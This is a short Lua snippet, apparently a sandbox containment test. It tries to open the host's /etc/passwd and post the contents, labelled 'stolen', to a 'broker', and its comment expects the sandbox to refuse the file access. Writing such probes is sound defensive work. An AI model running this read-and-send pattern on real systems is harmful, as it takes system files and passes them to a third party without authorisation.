-- Reads a file of the host: the Lua wall has no io; past it, open() is refused.
local f = io.open("/etc/passwd", "r")
tab.post("broker", {stolen = f and f:read("a") or "nothing"})
